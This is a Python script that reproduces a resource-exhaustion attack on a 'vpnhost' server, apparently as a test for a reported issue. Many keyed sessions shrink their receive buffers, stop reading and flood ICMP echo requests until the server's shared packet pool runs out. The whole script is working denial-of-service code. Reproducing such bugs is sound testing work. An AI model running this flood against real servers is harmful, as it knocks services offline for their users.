#!/usr/bin/env python3
"""Sessions that ask for replies and never read them (stdlib only).

  pool_hog.py SERVER PORT KEYFILE SESSIONS SECONDS [HUB]

Opens SESSIONS TCP sessions to a vpnhost server (wire protocol v1,
cipher_xor; docs/protocol.md), each with SO_RCVBUF 4 KiB: HELLO, WELCOME,
then the session never reads again and sends ICMP echo requests (1200-byte
IPv4 packets) to the hub HUB (default 10.10.0.1) as fast as TCP takes them,
for at most SECONDS. The server queues every reply for a peer that does not
read: this is the attack of issue 15, item 3 (seventeen such sessions
exhausted the one shared packet pool).

Output (stdout, one line each, flushed):
  welcome ADDR              a session got WELCOME
  error WHAT                a session did not get that far
  flooding N                all N welcomed sessions flood from here on
  lost ADDR T WHY           the server ended the session after T s of flooding
  summary sessions=N welcome=W lost=L sent=REQUESTS
Exit status 0 once SECONDS are over or every session was lost.
"""
import base64
import socket
import struct
import sys
import threading
import time

HELLO, WELCOME, DATA = 1, 2, 3
MAX_BODY = 9216
PACKET = 1200  # IPv4 total length of each echo request


def xor(key, body):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(body))


def frame(key, ftype, body):
    return struct.pack("!HBB", len(body), ftype, 0) + xor(key, body)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def echo_request(src, dst, ident, seq):
    icmp = struct.pack("!BBHHH", 8, 0, 0, ident, seq) + b"h" * (PACKET - 28)
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, PACKET, seq, 0, 64, 1, 0, socket.inet_aton(src),
                      socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
    return hdr + icmp


def read_frame(s, key):
    buf = b""
    while len(buf) < 4:
        chunk = s.recv(4 - len(buf))
        if not chunk:
            return None
        buf += chunk
    n, t, _ = struct.unpack("!HBB", buf)
    body = b""
    while len(body) < n:
        chunk = s.recv(n - len(body))
        if not chunk:
            return None
        body += chunk
    return t, xor(key, body)


def main():
    server, port, keyfile, sessions, seconds = sys.argv[1:6]
    hub = sys.argv[6] if len(sys.argv) > 6 else "10.10.0.1"
    key = base64.b64decode(open(keyfile).read().strip())
    out_lock = threading.Lock()

    def say(line):
        with out_lock:
            print(line, flush=True)

    conns = []
    for _ in range(int(sessions)):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.settimeout(10)
            s.connect((server, int(port)))
            s.sendall(frame(key, HELLO, b"VPNH" + struct.pack("!HHHH", 1, 0, MAX_BODY, 0)))
            f = read_frame(s, key)
            if not f or f[0] != WELCOME:
                say("error no WELCOME: %r" % (f[0] if f else None,))
                s.close()
                continue
            addr = socket.inet_ntoa(f[1][8:12])
            say("welcome " + addr)
            conns.append((s, addr))
        except OSError as e:
            say("error " + str(e))
    say("flooding %d" % len(conns))
    start = time.monotonic()
    deadline = start + float(seconds)
    lost = []
    sent = [0]

    def flood(s, addr, ident):
        seq = 0
        s.settimeout(None)  # blocking: a send that timed out half-way would break the framing
        while time.monotonic() < deadline:
            seq = (seq + 1) & 0xFFFF
            data = frame(key, DATA, echo_request(addr, hub, ident, seq))
            try:
                s.sendall(data)
            except OSError as e:
                with out_lock:
                    lost.append(addr)
                say("lost %s %.1f %s" % (addr, time.monotonic() - start, e.strerror or e))
                return
            with out_lock:
                sent[0] += 1

    threads = [threading.Thread(target=flood, args=(s, a, i + 1), daemon=True) for i, (s, a) in enumerate(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.0, deadline - time.monotonic()) + 2)
    say("summary sessions=%s welcome=%d lost=%d sent=%d" % (sessions, len(conns), len(lost), sent[0]))
    for s, _ in conns:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
